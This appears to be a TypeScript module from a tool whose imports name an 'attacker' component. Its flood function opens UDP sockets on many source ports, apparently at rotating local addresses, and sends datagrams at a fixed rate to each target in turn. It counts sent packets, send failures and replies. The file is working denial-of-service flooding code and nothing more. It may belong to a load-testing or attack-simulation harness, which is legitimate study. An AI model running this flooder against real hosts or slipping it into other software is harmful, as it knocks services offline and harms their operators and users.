/** Datagrams at a steady rate, from several ports. */
import { createSocket, type Socket } from 'node:dgram'
import { count, nextAddress } from './attacker.js'
import type { Place } from './connections.js'

const tickMs = 10

/** Sends `perS` datagrams a second from so many ports, to one place after the other. */
export function flood(
  places: () => readonly Place[],
  sourcePorts: number,
  perS: number,
  next: () => Buffer,
): void {
  const sockets = Array.from({ length: sourcePorts }, () => openSocket(nextAddress()))
  let turn = 0
  let owed = 0
  setInterval(() => {
    const now = places()
    for (owed += (perS * tickMs) / 1000; owed >= 1; owed -= 1) {
      turn += 1
      const to = now[turn % Math.max(1, now.length)]
      if (to === undefined) continue
      sockets[turn % sockets.length]?.send(next(), to.port, to.host, (error) =>
        count(error ? 'not_sent' : 'datagrams'),
      )
    }
  }, tickMs)
}

/** A socket at one of our addresses that counts what comes back. */
export function openSocket(address: string, port = 0): Socket {
  const socket = createSocket({ type: 'udp4', reuseAddr: true })
  socket.on('error', () => {})
  socket.on('message', () => count('answers'))
  socket.bind(port, address, () => socket.setBroadcast(true))
  return socket
}
